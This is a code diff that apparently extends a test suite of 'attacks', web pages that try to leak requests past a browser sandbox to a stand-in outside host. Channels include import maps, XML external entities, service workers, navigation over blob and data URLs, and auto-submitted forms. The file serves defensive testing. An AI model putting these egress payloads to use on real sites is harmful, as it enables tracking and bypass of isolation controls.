@@ -73,6 +73,71 @@ export const attacks: readonly Attack[] = [
     ),
   },
   {
+    name: 'import map that leads modules elsewhere',
+    pages: one(({ stranger }) =>
+      doc(
+        `<script type="module">import('pear').catch(() => 0); import('apple/x.js').catch(() => 0)</script>`,
+        `<script type="importmap">{"imports":{"pear":"${stranger}/m.js","apple/":"${stranger}/a/"},"integrity":{"${stranger}/m.js":"sha384-x"}}</script><link rel="modulepreload" href="${stranger}/p.js">`,
+      ),
+    ),
+  },
+  {
+    name: 'fenced frame, portal and picture in picture',
+    pages: one(({ stranger }) =>
+      doc(
+        `<fencedframe id="f" mode="opaque-ads"></fencedframe><portal src="${stranger}/portal"></portal><script>try { f.config = new FencedFrameConfig('${stranger}/fenced') } catch {} f.src = '${stranger}/f'; window.documentPictureInPicture?.requestWindow().then((w) => { w.location = '${stranger}/pip' }, () => 0)</script>`,
+      ),
+    ),
+  },
+  {
+    name: 'XML with a style sheet, a transformation and entities',
+    pages: ({ self, stranger }) => ({
+      '/': doc(`<iframe src="${self}/x.xml"></iframe><object data="${self}/x.svg"></object>`),
+      '/x.xml': {
+        headers: { 'content-type': 'text/xml' },
+        body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${stranger}/s.xsl"?><?xml-stylesheet type="text/css" href="${stranger}/s.css"?><!DOCTYPE a [<!ENTITY e SYSTEM "${stranger}/e.txt">]><a>&e;<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${stranger}/i.xml"/></a>`,
+      },
+      '/x.svg': {
+        headers: { 'content-type': 'image/svg+xml' },
+        body: `<svg xmlns="http://www.w3.org/2000/svg"><script href="${stranger}/s.js"/><use href="${stranger}/u.svg#a"/><image href="${stranger}/i.png"/><style>@import url(${stranger}/c.css)</style></svg>`,
+      },
+    }),
+  },
+  {
+    name: 'navigation API, document.open and history over blob and data',
+    pages: one(({ stranger }) =>
+      script(
+        `const html = "<script>fetch('${stranger}/b', { mode: 'no-cors' }); new Image().src = '${stranger}/i'; location = '${stranger}/l'<\\/script>"; open(URL.createObjectURL(new Blob([html], { type: 'text/html' }))); const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(html); document.body.append(f); const g = document.createElement('iframe'); document.body.append(g); g.contentDocument.open(); g.contentDocument.write(html); g.contentDocument.close(); setTimeout(() => navigation?.navigate('${stranger}/n').committed?.catch(() => 0), 300)`,
+      ),
+    ),
+  },
+  {
+    name: 'identity, push, background fetch and payment',
+    pages: ({ stranger }) => ({
+      '/': script(
+        `navigator.credentials?.get({ identity: { providers: [{ configURL: '${stranger}/fedcm.json', clientId: 'x' }] } }).catch(() => 0); navigator.serviceWorker?.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => { r.backgroundFetch?.fetch('x', '${stranger}/bg').catch(() => 0); r.pushManager?.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65) }).catch(() => 0); r.sync?.register('x').catch(() => 0) }).catch(() => 0); try { new PaymentRequest([{ supportedMethods: '${stranger}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0) } catch {}`,
+      ),
+      '/sw.js': js(`self.addEventListener('install', () => fetch('${stranger}/sw', { mode: 'no-cors' }))`),
+    }),
+  },
+  {
+    name: 'posters, tracks, sets of pictures, MathML and icons that change',
+    pages: one(({ stranger }) =>
+      doc(
+        `<video poster="${stranger}/p.png" autoplay><source src="${stranger}/v.mp4"><track default src="${stranger}/t.vtt"></video><picture><source srcset="${stranger}/s.webp 1x"><img src="x:" srcset="${stranger}/i.png 1x"></picture><math><mtext href="${stranger}/m">x</mtext></math><input type="image" src="${stranger}/in.png"><body background="${stranger}/bg.png"><div style="background:image-set('${stranger}/a.png' 1x);mask:url(${stranger}/m.svg#x);cursor:url(${stranger}/c.cur),auto;list-style:url(${stranger}/l.png)">x</div><script>setInterval(() => { const l = document.createElement('link'); l.rel = 'icon'; l.href = '${stranger}/f.ico?' + Math.random(); document.head.append(l) }, 100)</script>`,
+        `<link rel="compression-dictionary" href="${stranger}/d"><link rel="apple-touch-icon" href="${stranger}/t.png"><link rel="search" type="application/opensearchdescription+xml" href="${stranger}/o.xml">`,
+      ),
+    ),
+  },
+  {
+    name: 'form in a frame, with a target, by a button of another form, and printing',
+    pages: one(({ stranger }) =>
+      doc(
+        `<iframe name="t"></iframe><form id="g" action="${stranger}/get" target="t"><input name="a" value="b"></form><form id="p" method="post" action="${stranger}/post" enctype="text/plain" target="t"><input name="a" value="b"></form><form id="d" method="dialog"><button id="b" formaction="${stranger}/button" formmethod="post" formtarget="_blank">x</button></form><script>g.submit(); p.submit(); d.requestSubmit(b); print(); addEventListener('beforeprint', () => { new Image().src = '${stranger}/print' })</script>`,
+      ),
+    ),
+  },
+  {
     name: 'WebSocket frames',
     pages: one(({ stranger, plain }) =>
       script(
